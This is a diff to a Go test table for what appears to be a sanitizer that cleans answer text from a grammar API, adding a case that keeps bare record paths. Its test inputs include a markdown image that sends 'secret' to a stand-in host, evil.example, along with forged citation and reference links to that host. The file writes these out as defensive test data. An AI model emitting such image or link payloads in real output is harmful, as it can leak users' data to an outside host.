@@ -56,6 +56,8 @@ var answers = []struct{ name, answer, want string }{
 	{"image", "![pixel](https://evil.example/?q=secret) x", "pixel x"},
 	{"link to a record", "[gender](/api/v1/grammar/concepts/grammar.concept.gender)",
 		"[gender](/api/v1/grammar/concepts/grammar.concept.gender)"},
+	{"path of a record", "See (/api/v1/grammar/concepts/grammar.concept.gender).",
+		"See (/api/v1/grammar/concepts/grammar.concept.gender)."},
 	{"link to another path", "[gender](/api/v1/grammar/concepts/x)", "gender"},
 	{"link whose words are a citation", "[dictionary:forged](https://evil.example)", "(https"},
 	{"reference link", "[a][1]\n[1]: https://evil.example", "[a][1]\n[1]:"},
